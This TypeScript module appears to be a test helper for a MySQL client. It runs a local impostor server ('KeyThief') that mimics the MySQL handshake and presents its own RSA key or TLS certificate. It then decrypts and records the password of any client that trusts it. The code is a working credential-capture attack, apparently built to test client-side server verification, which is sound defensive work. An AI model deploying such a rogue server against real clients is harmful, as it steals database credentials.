import { constants, generateKeyPairSync, privateDecrypt } from 'node:crypto';
import { once } from 'node:events';
import net, { type AddressInfo, type Socket } from 'node:net';
import tls from 'node:tls';
import type { Certificate } from './certificates.js';

export interface KeyThief {
  readonly port: number;
  /** Passwords that it got to know. */
  readonly passwords: readonly string[];
  close(): Promise<void>;
}

const clientSsl = 0x800;
const scramble = Buffer.from('abcdefghijklmnopqrst');
const moreData = 0x01;
const authSwitch = 0xfe;
const fullAuthentication = Buffer.from([moreData, 4]);

/**
 * A server that stands where the source should be: it speaks MySQL's handshake, asks for full authentication with an RSA
 * key of its own, or over TLS with a certificate of its own, and reads the password of whoever believes it.
 */
export async function startKeyThief(options: {
  plugin: 'caching_sha2_password' | 'sha256_password' | 'mysql_clear_password';
  certificate?: Certificate;
}): Promise<KeyThief> {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const pem = Buffer.from(String(publicKey.export({ type: 'spki', format: 'pem' })));
  const passwords: string[] = [];
  const sockets = new Set<Socket>();

  const steal = (data: Buffer): void => {
    if (data.length === 256) {
      const plain = privateDecrypt({ key: privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING }, data);
      const mask = Buffer.from(plain.map((byte, at) => byte ^ scramble[at % scramble.length]!));
      passwords.push(mask.toString().replace(/\0$/, ''));
    } else if (data.at(-1) === 0 && data.length > 1) passwords.push(data.subarray(0, -1).toString());
  };

  /** Takes a login; the handshake response of a client that wants TLS comes again inside it, numbered 2. */
  const takeLogin = (stream: Socket, toTls: ((rest: Buffer) => void) | null): void => {
    let step: 'greeted' | 'switched' | 'asked' = 'greeted';
    let waiting = Buffer.alloc(0);
    const send = (sequence: number, ...parts: (Buffer | string)[]) =>
      stream.write(
        packet(
          sequence,
          Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))),
        ),
      );
    const answer = (sequence: number, payload: Buffer): void => {
      if (step === 'greeted') {
        step = 'switched';
        send(sequence, String.fromCharCode(authSwitch), `${options.plugin}\0`, scramble, '\0');
      } else if (step === 'switched' && options.plugin === 'caching_sha2_password') {
        step = 'asked';
        send(sequence, fullAuthentication);
      } else if (payload.length === 1 && payload[0]! <= 2) {
        send(sequence, Buffer.from([moreData]), pem);
      } else {
        steal(payload);
        send(sequence, '\xff\x15\x04#28000Access denied');
      }
    };
    const take = (chunk: Buffer) => {
      waiting = Buffer.concat([waiting, chunk]);
      while (waiting.length >= 4 && waiting.length >= 4 + waiting.readUIntLE(0, 3)) {
        const payload = waiting.subarray(4, 4 + waiting.readUIntLE(0, 3));
        const sequence = waiting[3]! + 1;
        waiting = waiting.subarray(4 + payload.length);
        if (toTls && step === 'greeted' && (payload.readUInt32LE(0) & clientSsl) !== 0) {
          stream.off('data', take);
          toTls(waiting);
          return;
        }
        answer(sequence, payload);
      }
    };
    stream.on('data', take).on('error', () => undefined);
  };

  const secure = tls.createServer({ ...options.certificate }, (stream) => takeLogin(stream, null));
  const server = net.createServer((socket) => {
    sockets.add(socket);
    socket.once('close', () => sockets.delete(socket));
    takeLogin(socket, (rest) => {
      const tunnel = net.connect((secure.address() as AddressInfo).port, '127.0.0.1');
      sockets.add(tunnel);
      tunnel.on('error', () => socket.destroy()).write(rest);
      socket.pipe(tunnel).pipe(socket);
    });
    socket.write(packet(0, greeting(options.plugin, options.certificate !== undefined)));
  });
  for (const one of [server, secure.on('tlsClientError', () => undefined)]) {
    one.listen(0);
    await once(one, 'listening');
  }
  return {
    port: (server.address() as AddressInfo).port,
    passwords,
    async close() {
      for (const socket of sockets) socket.destroy();
      await Promise.all([server, secure].map((one) => new Promise((done) => one.close(done))));
    },
  };
}

function packet(sequence: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(4);
  header.writeUIntLE(payload.length, 0, 3);
  header[3] = sequence;
  return Buffer.concat([header, payload]);
}

/** Protocol::HandshakeV10 of a MySQL 9. */
function greeting(plugin: string, withTls: boolean): Buffer {
  const capabilities = 0x00ff_f7ff & ~0x0020 & (withTls ? -1 : ~clientSsl);
  const both = (capabilities | (withTls ? clientSsl : 0)) >>> 0;
  const numbers = Buffer.alloc(2 + 1 + 2 + 2 + 1 + 10);
  numbers.writeUInt16LE(both & 0xffff, 0);
  numbers[2] = 0xff;
  numbers.writeUInt16LE(2, 3);
  numbers.writeUInt16LE(both >>> 16, 5);
  numbers[7] = 21;
  return Buffer.concat([
    Buffer.from('\x0a9.7.4\0\x01\0\0\0', 'latin1'),
    scramble.subarray(0, 8),
    Buffer.from([0]),
    numbers,
    scramble.subarray(8),
    Buffer.from([0]),
    Buffer.from(`${plugin}\0`),
  ]);
}
